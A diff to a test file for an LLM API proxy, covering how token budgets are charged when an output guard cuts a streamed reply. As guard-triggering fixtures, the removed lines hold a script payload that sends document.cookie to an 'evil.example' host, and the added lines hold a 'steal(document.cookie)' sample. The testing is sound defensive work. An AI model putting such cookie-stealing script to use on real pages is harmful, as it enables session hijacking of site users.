@@ -711,23 +711,25 @@ describe("budgets through the proxy", () => {
       assert.deepEqual(codes.slice(5), ["ERR_BUDGET_EXHAUSTED", "ERR_BUDGET_EXHAUSTED", "ERR_BUDGET_EXHAUSTED"]);
       assert.equal(received.length, 5);
 
-      // A stream the guard cuts carries no usage: its reservation (about 32 tokens) stands.
-      const key2 = (await budgeted.apiKeys.create({ owner: "erin", name: "b", roles: ["user"], creator: "test" })).key;
-      const stream = () =>
-        server.inject({
-          method: "POST",
-          url: "/v1/chat/completions",
-          headers: { authorization: `Bearer ${key2}`, "content-type": "application/json" },
-          payload: JSON.stringify({ ...hello, max_tokens: 20, stream: true }),
-        });
-      const cut = textStream('Sure. <script>fetch("https://evil.example/?c="+document.cookie)</script> done', 7);
-      for (let i = 0; i < 3; i++) {
-        streams.push(cut);
-        const res = await stream();
-        assert.match(res.body, /ERR_GUARD_BLOCKED/);
-      }
-      streams.push(cut);
-      assert.equal(code(await stream()), "ERR_BUDGET_EXHAUSTED");
+      // A stream the guard cuts carries no usage: it counts the prompt (12 tokens) and what the upstream
+      // had sent before the cut — not its whole max_tokens (80), and not the prompt alone.
+      const made = await budgeted.apiKeys.create({ owner: "erin", name: "b", roles: ["user"], creator: "test" });
+      const text = `${"Here is a longer answer, written in short pieces. ".repeat(4)}<script>steal(document.cookie)</script> more`;
+      streams.push(textStream(text, 7));
+      const cutRes = await server.inject({
+        method: "POST",
+        url: "/v1/chat/completions",
+        headers: { authorization: `Bearer ${made.key}`, "content-type": "application/json" },
+        payload: JSON.stringify({ ...hello, max_tokens: 80, stream: true }),
+      });
+      assert.match(cutRes.body, /ERR_GUARD_BLOCKED/);
+      const row = await budgeted.store.db
+        .selectFrom("budget_usage")
+        .select("used")
+        .where("key", "like", `daily:tokens:key:${made.id}:%`)
+        .executeTakeFirstOrThrow();
+      const used = Number(row.used);
+      assert.ok(used > 12 + 40 && used <= 12 + Math.ceil(text.length / 4), `${used} tokens counted`);
       streams.length = 0;
     } finally {
       answers.length = 0;
